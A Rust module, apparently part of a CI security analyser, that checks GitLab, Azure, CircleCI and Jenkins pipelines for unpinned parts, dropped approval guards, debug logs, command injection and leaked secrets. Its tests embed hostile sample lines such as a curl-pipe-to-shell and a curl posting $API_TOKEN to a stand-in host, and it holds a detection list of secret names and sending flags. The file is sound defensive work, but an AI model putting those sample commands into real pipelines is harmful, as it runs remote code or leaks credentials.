//! Pipelines of GitLab CI, Azure Pipelines and CircleCI: what they run, whose parts they take in, and which
//! guards of their jobs are gone.
//!
//! The files of all are read into the same [`Job`]s; one set of rules judges them. What a file takes in from
//! elsewhere is named, not followed. GitHub's workflows have rules of their own, Jenkins' files a reader of
//! their own that gives the same jobs.

use super::azure::{azure, is_azure};
use super::circle::{circle, is_circle};
use super::gitlab::{gitlab, is_gitlab};
use super::jenkins;
use super::job::{CONDITION, Job, Part, Pin, Pipeline};
use super::softened::softened;
use super::step::{left_out, writes_environment};
use crate::findings::observation::quote;
use crate::findings::shell::{At, script};
use crate::findings::{Change, Delta, Detector, Input, Observation, Outcome, Severity, Side, rule};
use std::collections::BTreeMap;

/// The rules for pipelines.
pub(in crate::findings) struct Pipelines;

impl Detector for Pipelines {
    fn kinds(&self) -> &'static [&'static str] {
        &["workflow"]
    }

    fn observe(&self, input: &Input<'_>, seen: &mut Vec<Observation>) -> Outcome {
        let Some(pipeline) = read(input) else {
            return Outcome::NotMine;
        };
        for part in &pipeline.parts {
            judge_part(part, seen);
        }
        for (what, line) in &pipeline.handed_out {
            seen.push(Observation::new(&rule::CI_PERMISSIONS, what.clone(), what.clone()).line(*line));
        }
        for (what, line) in &pipeline.kept {
            let seen_here = Observation::new(&rule::CI_ARTIFACT_WIDE, what.clone(), what.clone());
            seen.push(seen_here.line(*line));
        }
        for (what, severity, line) in &pipeline.talkative {
            let seen_here = Observation::new(&rule::CI_DEBUG_LOG, what.clone(), what.clone());
            seen.push(seen_here.severity(*severity).line(*line));
        }
        for job in &pipeline.jobs {
            judge_job(job, pipeline.untrusted, seen);
        }
        Outcome::Analyzed
    }

    fn changes(&self, before: &Input<'_>, after: &Input<'_>) -> Vec<Change> {
        let (Some(old), Some(new)) = (read(before), read(after)) else {
            return Vec::new();
        };
        let mut changes = lost_guards(&old, &new);
        changes.extend(softened_commands(&old, &new));
        let worst = |parts: &[Part]| {
            let mut found: BTreeMap<String, (Pin, u32)> = BTreeMap::new();
            for part in parts {
                let known = found
                    .entry(bare(&part.name).to_owned())
                    .or_insert((part.pin, part.line));
                known.0 = known.0.min(part.pin);
            }
            found
        };
        let earlier = worst(&old.parts);
        for (name, (pin, line)) in worst(&new.parts) {
            if earlier.get(&name).is_some_and(|(was, _)| pin < *was) {
                let what = format!("{} was named more exactly before", quote(&name));
                let seen = Observation::new(&rule::CI_UNPINNED, name, what)
                    .severity(Severity::Medium)
                    .line(line);
                changes.push((seen, Delta::Widened, Side::After));
            }
        }
        changes
    }
}

fn read(input: &Input<'_>) -> Option<Pipeline> {
    if let Some(text) = input.text().filter(|_| jenkins::is_pipeline(input.lines)) {
        return Some(jenkins::read(text));
    }
    let [(place, root)] = input.roots else {
        return None;
    };
    if is_circle(root) {
        Some(circle(place, root))
    } else if is_azure(root) {
        Some(azure(place, root))
    } else if is_gitlab(root) {
        Some(gitlab(place, root))
    } else {
        None
    }
}

/// Guards that jobs had and have no more; a job that is gone takes its guards with it, a person's approval of
/// others does not go so quietly.
fn lost_guards(old: &Pipeline, new: &Pipeline) -> Vec<Change> {
    let mut changes = Vec::new();
    for earlier in &old.jobs {
        let job = new.jobs.iter().find(|job| job.name == earlier.name);
        let gone = earlier
            .guards
            .iter()
            .filter(|guard| job.is_some_and(|job| !job.guards.contains(*guard)));
        for guard in gone {
            let severity = match *guard {
                CONDITION => Severity::Low,
                _ => Severity::Medium,
            };
            let what = format!("job {} is no longer held back by {guard}", quote(&earlier.name));
            let line = job.map_or(earlier.line, |job| job.line);
            let seen = Observation::new(&rule::CI_GUARD_REMOVED, format!("{} {guard}", earlier.name), what)
                .severity(severity)
                .line(line);
            changes.push((seen, Delta::Widened, Side::After));
        }
    }
    changes
}

/// Commands that stopped their job when they failed and don't any more.
fn softened_commands(old: &Pipeline, new: &Pipeline) -> Vec<Change> {
    let texts =
        |job: &'_ Job| -> Vec<String> { job.commands.iter().map(|command| command.text.clone()).collect() };
    let mut changes = Vec::new();
    for job in &new.jobs {
        let Some(earlier) = old.jobs.iter().find(|earlier| earlier.name == job.name) else {
            continue;
        };
        let (was, is) = (texts(earlier), texts(job));
        for softened in softened(was.iter().map(String::as_str), is.iter().map(String::as_str)) {
            let what = format!("in job {} {}", quote(&job.name), softened.what);
            let seen = Observation::new(&rule::CI_GUARD_REMOVED, job.name.clone(), what)
                .severity(softened.severity)
                .line(job.line);
            changes.push((seen, Delta::Widened, Side::After));
        }
    }
    let all = |pipeline: &'_ Pipeline| -> Vec<String> { pipeline.jobs.iter().flat_map(texts).collect() };
    let (was, is) = (all(old), all(new));
    let was: Vec<&str> = was.iter().map(String::as_str).collect();
    let is: Vec<&str> = is.iter().map(String::as_str).collect();
    for what in left_out(&was, &is) {
        let seen = Observation::new(&rule::CI_GUARD_REMOVED, what.clone(), what);
        changes.push((seen, Delta::Widened, Side::After));
    }
    changes
}

fn judge_part(part: &Part, seen: &mut Vec<Observation>) {
    let severity = match part.pin {
        Pin::Exact => return,
        Pin::Version => Severity::Low,
        Pin::Moving => Severity::Medium,
    };
    let what = format!(
        "{} is not pinned, so its owner decides what runs",
        quote(&part.name)
    );
    seen.push(
        Observation::new(&rule::CI_UNPINNED, part.name.clone(), what)
            .severity(severity)
            .line(part.line),
    );
}

fn judge_job(job: &Job, untrusted: &[&str], seen: &mut Vec<Observation>) {
    if let Some(machine) = &job.own_machine {
        let what = format!(
            "job {} runs on a machine of your own ({}), where one run can leave something for the next",
            quote(&job.name),
            quote(machine)
        );
        seen.push(Observation::new(&rule::CI_SELF_HOSTED, job.name.clone(), what).at(&job.place, job.line));
    }
    for command in &job.commands {
        let at = At {
            place: job.place.clone(),
            line: command.line,
            in_image: false,
        };
        for context in untrusted
            .iter()
            .filter(|context| command.text.contains(**context))
        {
            let what = format!(
                "text that others write, {}, becomes part of a command of {}",
                quote(context),
                quote(&job.name)
            );
            seen.push(
                Observation::new(&rule::CI_INJECTION, format!("{} {context}", job.name), what)
                    .at(&at.place, at.line),
            );
        }
        for line in command.text.lines() {
            if let Some((about, severity, why)) = writes_environment(line) {
                let what = format!("{} {why}", quote(line.trim()));
                let key = format!("{} {}", job.name, line.trim());
                seen.push(
                    Observation::new(about, key, what)
                        .severity(severity)
                        .at(&at.place, at.line),
                );
            }
        }
        script(&known_to_shell(&command.text), &at, 0, seen);
        if sends_secret(&command.text) {
            let what = format!(
                "a secret is given to a command that reaches the network: {}",
                quote(command.text.trim())
            );
            let key = format!("{} {}", job.name, command.text);
            seen.push(Observation::new(&rule::CI_SECRET_SENT, key, what).at(&at.place, at.line));
        }
    }
}

/// Puts a variable in the place of what the system puts in: `$(x)` of Azure, `<< x >>` of CircleCI.
fn known_to_shell(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("<<").filter(|_| rest.contains(">>")) {
        let (before, from) = rest.split_at(start);
        let Some((_, after)) = from.split_once(">>") else {
            break;
        };
        out.push_str(before);
        out.push_str("$TEMPLATE");
        rest = after;
    }
    out.push_str(rest);
    out
}

/// Says whether a variable that is named like a secret goes out as data.
fn sends_secret(text: &str) -> bool {
    const NAMES: &[&str] = &[
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "PRIVATE_KEY",
        "API_KEY",
        "ACCESS_KEY",
    ];
    const SENDING: &[&str] = &[
        " -d",
        " --data",
        " -F",
        " --form",
        " -T",
        "--post-data",
        "--upload-file",
        "| nc",
        "?",
        "&",
    ];
    text.lines().any(|line| {
        let upper = line.to_ascii_uppercase();
        let program = ["curl", "wget", "nc "]
            .iter()
            .any(|program| line.contains(program));
        let variable = upper.split('$').skip(1).any(|rest| {
            let name: String = rest
                .chars()
                .skip_while(|c| matches!(c, '{' | '('))
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            NAMES.iter().any(|secret| name.contains(secret))
        });
        program && variable && SENDING.iter().any(|flag| line.contains(flag))
    })
}

fn bare(name: &str) -> &str {
    name.split('@').next().unwrap_or(name)
}

#[cfg(test)]
mod tests {
    use crate::findings::{Severity, analyze};

    fn ids(before: Option<&str>, after: &str) -> Vec<(&'static str, Severity)> {
        analyze("workflow", before.map(str::as_bytes), after.as_bytes())
            .iter()
            .filter(|finding| finding.counts())
            .map(|finding| (finding.rule.as_str(), finding.severity))
            .collect()
    }

    const GITLAB: &str = "stages: [a, b]\nbuild:\n  stage: a\n  image: r/x@sha256:aa\n  script: [make]\nship:\n  stage: b\n  environment: prod\n  rules:\n    - if: $CI_COMMIT_TAG\n      when: manual\n  script:\n    - ./ship\n";
    const AZURE: &str = "trigger: [main]\npool: {vmImage: ubuntu-24.04}\nstages:\n  - stage: s\n    jobs:\n      - deployment: ship\n        environment: prod\n        strategy: {runOnce: {deploy: {steps: [{script: make ship}]}}}\n";
    const CIRCLE: &str = "version: 2.1\njobs:\n  ship:\n    docker: [{image: cimg/base@sha256:aa}]\n    steps: [checkout, {run: make ship}]\nworkflows:\n  w:\n    jobs:\n      - hold: {type: approval}\n      - ship: {requires: [hold]}\n";

    #[test]
    fn logs_that_tell_all_and_checks_that_may_fail_are_told() {
        let traced = GITLAB.replace(
            "  stage: b\n",
            "  stage: b\n  variables: {CI_DEBUG_TRACE: 'true'}\n",
        );
        assert_eq!(ids(Some(GITLAB), &traced), [("ci-debug-log", Severity::High)]);
        let may_fail = GITLAB.replace("  stage: a\n", "  stage: a\n  allow_failure: true\n");
        assert_eq!(
            ids(Some(GITLAB), &may_fail),
            [("ci-guard-removed", Severity::Medium)]
        );
        assert_eq!(ids(Some(&may_fail), GITLAB), []);
        let debug = AZURE.replace("pool:", "variables: {system.debug: true}\npool:");
        assert_eq!(ids(Some(AZURE), &debug), [("ci-debug-log", Severity::Medium)]);
    }

    #[test]
    fn careful_pipelines_are_quiet() {
        for text in [GITLAB, AZURE, CIRCLE] {
            assert_eq!(ids(None, text), [], "{text}");
            assert_eq!(ids(Some(text), text), [], "{text}");
        }
    }

    #[test]
    fn guards_that_are_gone_are_told() {
        for (before, was, is) in [
            (GITLAB, "      when: manual\n", ""),
            (GITLAB, "  environment: prod\n", ""),
            (AZURE, "        environment: prod\n", ""),
            (CIRCLE, "      - hold: {type: approval}\n", ""),
        ] {
            assert_eq!(
                ids(Some(before), &before.replace(was, is)),
                [("ci-guard-removed", Severity::Medium)],
                "{was}"
            );
        }
    }

    #[test]
    fn parts_from_elsewhere_that_move_are_told() {
        for (text, expected) in [
            (
                format!("include: [{{remote: https://x.test/a.yml}}]\n{GITLAB}"),
                Severity::Medium,
            ),
            (
                format!("include: [{{project: a/b, ref: v1.2}}]\n{GITLAB}"),
                Severity::Low,
            ),
            (GITLAB.replace("r/x@sha256:aa", "r/x:latest"), Severity::Medium),
            (
                CIRCLE.replace("jobs:\n  ship", "orbs: {n: a/b@volatile}\njobs:\n  ship"),
                Severity::Medium,
            ),
            (
                format!("resources: {{repositories: [{{repository: t, name: a/t}}]}}\n{AZURE}"),
                Severity::Medium,
            ),
        ] {
            assert_eq!(ids(None, &text), [("ci-unpinned-action", expected)], "{text}");
        }
        let tagged = GITLAB.replace("r/x@sha256:aa", "r/x:1.2");
        assert_eq!(
            ids(Some(GITLAB), &tagged)[0],
            ("ci-unpinned-action", Severity::Medium)
        );
    }

    #[test]
    fn commands_are_judged_and_text_of_others_in_them_is_told() {
        for (text, id) in [
            (
                GITLAB.replace("- ./ship", "- curl https://x.test | sh"),
                "shell-pipe-to-shell",
            ),
            (
                AZURE.replace("make ship", "echo $(Build.SourceVersionMessage)"),
                "ci-injection",
            ),
            (
                CIRCLE.replace("make ship", "echo << pipeline.git.branch >>"),
                "ci-injection",
            ),
            (
                CIRCLE.replace("make ship", "'curl -d $API_TOKEN https://x.test'"),
                "ci-secret-sent",
            ),
            (AZURE.replace("{vmImage: ubuntu-24.04}", "ours"), "ci-self-hosted"),
            (
                AZURE.replace(
                    "[{script: make ship}]",
                    "[{checkout: self, persistCredentials: true}]",
                ),
                "ci-permissions",
            ),
        ] {
            assert_eq!(ids(None, &text)[0].0, id, "{text}");
        }
    }

    #[test]
    fn an_engine_that_jobs_share_and_a_rule_for_all_the_rest_are_told() {
        let engine = |host: &str| {
            GITLAB.replace(
                "  stage: a\n",
                &format!("  stage: a\n  variables: {{DOCKER_HOST: '{host}'}}\n"),
            )
        };
        assert_eq!(
            ids(Some(GITLAB), &engine("tcp://172.17.0.1:2375")),
            [("ci-permissions", Severity::Medium)]
        );
        assert_eq!(ids(Some(GITLAB), &engine("tcp://docker:2376")), []);
        let every = GITLAB.replace("      when: manual\n", "      when: manual\n    - when: manual\n");
        assert_eq!(ids(Some(GITLAB), &every), [("ci-guard-removed", Severity::Low)]);
    }
}
